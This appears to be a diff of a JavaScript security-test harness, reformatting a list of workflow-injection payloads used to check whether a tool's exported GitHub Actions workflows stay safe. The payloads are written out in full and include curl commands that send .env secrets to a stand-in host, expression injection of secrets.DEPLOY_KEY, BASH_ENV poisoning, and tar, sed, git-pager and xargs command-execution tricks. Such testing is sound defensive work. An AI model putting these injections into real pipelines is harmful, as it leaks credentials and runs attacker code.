@@ -29,8 +29,18 @@ const ATTACKS = [
   ['owner-expression', 'owner', (m) => ({ owner: `Sam Lee \${{ github.event.issue.title }} ${m} (Operations assistant)` })],
   ['step-quote', 'step text', (m) => ({ steps: [`Run \`bash scripts/fetch.sh\`${EXFIL(m)} — mechanical.`] })],
   ['step-subst', 'step text', (m) => ({ steps: [`Run \`bash scripts/fetch.sh $(curl -s x.invalid/${m})\` — mechanical.`] })],
-  ['gate-heredoc-break', 'approval step', (m) => ({ gate: `Send the report to Priya Nair (Finance manager) for sign-off and wait for her approval.\n   SOP_SUMMARY\n   curl -sd @.env https://x.invalid/${m}\n   cat <<'SOP_SUMMARY'` })],
-  ['gate-expression', 'approval step', (m) => ({ gate: `Send the report to Priya Nair (Finance manager) for sign-off \${{ secrets.DEPLOY_KEY }} ${m} and wait for her approval.` })],
+  [
+    'gate-heredoc-break',
+    'approval step',
+    (m) => ({
+      gate: `Send the report to Priya Nair (Finance manager) for sign-off and wait for her approval.\n   SOP_SUMMARY\n   curl -sd @.env https://x.invalid/${m}\n   cat <<'SOP_SUMMARY'`,
+    }),
+  ],
+  [
+    'gate-expression',
+    'approval step',
+    (m) => ({ gate: `Send the report to Priya Nair (Finance manager) for sign-off \${{ secrets.DEPLOY_KEY }} ${m} and wait for her approval.` }),
+  ],
   ['check-bash-env', 'quality check', (m) => ({ checks: [`\`git log -1 --format=tformat:BASH_ENV=scripts/${m}.sh --output=$GITHUB_ENV\` — mechanical.`] })],
   ['check-rg-pre', 'quality check', (m) => ({ checks: [`\`rg --pre bash ${m} out/\` — mechanical.`] })],
   ['check-semicolon', 'quality check', (m) => ({ checks: [`\`test -s out/report.csv; curl -sd @.env https://x.invalid/${m}\` — mechanical.`] })],
@@ -43,7 +53,11 @@ const ATTACKS = [
   ['check-sed-e', 'quality check', (m) => ({ checks: [`\`sed -n '1e curl x.invalid/${m}' out/report.csv\` — mechanical.`] })],
   ['check-git-pager', 'quality check', (m) => ({ checks: [`\`git -c core.pager='sh -c "curl x.invalid/${m}"' log -1\` — mechanical.`] })],
   ['check-xargs', 'quality check', (m) => ({ checks: [`\`ls out | xargs -I{} sh -c 'curl x.invalid/${m}'\` — mechanical.`] })],
-  ['check-tar-checkpoint', 'quality check', (m) => ({ checks: [`\`tar -cf /dev/null out --checkpoint=1 --checkpoint-action=exec='curl x.invalid/${m}'\` — mechanical.`] })],
+  [
+    'check-tar-checkpoint',
+    'quality check',
+    (m) => ({ checks: [`\`tar -cf /dev/null out --checkpoint=1 --checkpoint-action=exec='curl x.invalid/${m}'\` — mechanical.`] }),
+  ],
   ['check-process-subst', 'quality check', (m) => ({ checks: [`\`diff out/report.csv <(curl -s x.invalid/${m})\` — mechanical.`] })],
   ['check-redirect-write', 'quality check', (m) => ({ checks: [`\`grep -c po_ out/report.csv > scripts/${m}.sh\` — mechanical.`] })],
   ['check-env-assign', 'quality check', (m) => ({ checks: [`\`BASH_ENV=scripts/${m}.sh test -s out/report.csv\` — mechanical.`] })],
@@ -148,7 +162,16 @@ export async function measureWorkflowInjection(cli) {
     ATTACKS.map(async ([id, where, build], i) => {
       const marker = `INJ${String(i).padStart(2, '0')}ZQ`;
       const { run, workflows } = await exportOne(cli, id, build, marker);
-      const found = { id, where, exported: workflows.length > 0, inRun: false, unquoted: false, fromExpression: false, yamlError: undefined, crash: crashReason(run) };
+      const found = {
+        id,
+        where,
+        exported: workflows.length > 0,
+        inRun: false,
+        unquoted: false,
+        fromExpression: false,
+        yamlError: undefined,
+        crash: crashReason(run),
+      };
       for (const w of workflows) {
         const parts = workflowParts(w.text);
         if (parts.error) found.yamlError = parts.error;
@@ -170,7 +193,12 @@ export async function measureWorkflowInjection(cli) {
     effective: results.filter((r) => r.effective).length,
     unquoted: results.filter((r) => r.unquoted).length,
     baselineExported: baseline.workflows.length > 0,
-    effectiveList: results.filter((r) => r.effective).map((r) => `${r.id} (${r.where})${r.unquoted ? ' [unquoted in run:]' : r.inRun ? ' [quoted in run:]' : ''}${r.fromExpression ? ' [expression]' : ''}${r.yamlError ? ` [${r.yamlError}]` : ''}`),
+    effectiveList: results
+      .filter((r) => r.effective)
+      .map(
+        (r) =>
+          `${r.id} (${r.where})${r.unquoted ? ' [unquoted in run:]' : r.inRun ? ' [quoted in run:]' : ''}${r.fromExpression ? ' [expression]' : ''}${r.yamlError ? ` [${r.yamlError}]` : ''}`,
+      ),
     results,
   };
 }
